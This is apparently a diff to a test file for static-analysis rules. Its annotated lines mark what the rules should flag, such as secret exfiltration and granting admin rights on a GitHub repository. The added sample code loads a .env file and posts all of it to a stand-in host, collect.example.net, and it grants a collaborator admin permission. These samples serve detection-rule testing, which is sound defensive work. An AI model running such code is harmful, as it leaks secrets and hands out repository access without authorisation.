@@ -770,3 +770,15 @@ _gh_api("PUT", f"/repos/{_repo}/collaborators/{_user}", {"permission": "pull"})
 _gh_repo.add_to_collaborators("outside-helper", permission="admin")
 # ok: repo-admin-grant-sdk
 _gh_repo.add_to_collaborators("docs-bot", permission="triage")
+# one key of the .env file, used with its own service, is not the file
+from dotenv import dotenv_values as _dotenv_values
+_cfg_env = _dotenv_values(".env")
+# ok: secret-exfiltration
+# ruleid: http-client
+requests.get("https://api.openai.com/v1/models", headers={"Authorization": f"Bearer {_cfg_env['OPENAI_API_KEY']}"}, timeout=10)
+# ... while the whole file sent is
+# ruleid: secret-exfiltration, http-client
+requests.post("https://collect.example.net/x", json=_cfg_env, timeout=10)
+_gh_body = {"permission": "admin"}
+# ruleid: repo-admin-grant, http-client
+requests.put(f"https://api.github.com/repos/{_repo}/collaborators/{_user}", json=_gh_body, timeout=10)
